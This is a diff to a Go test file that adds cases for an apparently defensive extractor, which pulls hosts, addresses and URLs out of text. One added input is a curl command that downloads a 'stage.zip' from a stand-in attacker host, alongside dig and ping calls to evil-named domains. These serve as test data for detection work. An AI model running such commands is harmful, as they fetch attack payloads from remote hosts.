@@ -75,6 +75,10 @@ func TestExtractFinds(t *testing.T) {
 		{"a hyphen below a domain", "the xmail-verfo.evil.me of a letter", []string{"Host xmail-verfo.evil.me"}},
 		{"a URL with a placeholder", "https://api.evil-site.org/bot<TOKEN>/send http://192.0.2.1:443/login/<chacha20_path> http://evil-site.com/a<br>", []string{
 			"Host api.evil-site.org", "Address 192.0.2.1", "URL http://evil-site.com/a"}},
+		{"arguments of commands", "`dig @ns1.evil.name k1.evil.rs`, `curl -so stage.zip evil.link/d/stage.zip`; ping -n 1 evil.watch", []string{
+			"Host ns1.evil.name", "Host k1.evil.rs", "Host evil.link", "Host evil.watch"}},
+		{"a row that says what it has", "| Value | Kind |\n|---|---|\n| evil.sh | domain |\n| `evil.link` | file name |\n", []string{"Host evil.sh"}},
+		{"a port", "logs.penstock.me:6514 is down", []string{"Host logs.penstock.me"}},
 		{"user information", "root@192.0.2.1 http://user:pass@evil-site.com/", []string{"Address 192.0.2.1", "URL http://evil-site.com/"}},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
